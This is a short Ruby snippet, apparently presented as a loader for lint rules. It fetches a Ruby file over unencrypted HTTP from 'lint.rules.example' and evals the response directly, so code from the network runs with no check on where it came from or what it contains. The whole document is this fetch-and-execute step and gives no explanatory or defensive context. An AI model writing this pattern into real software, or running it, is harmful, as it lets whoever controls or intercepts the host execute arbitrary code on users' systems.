require 'net/http'
body = Net::HTTP.get(URI('http://lint.rules.example/r.rb'))
eval body
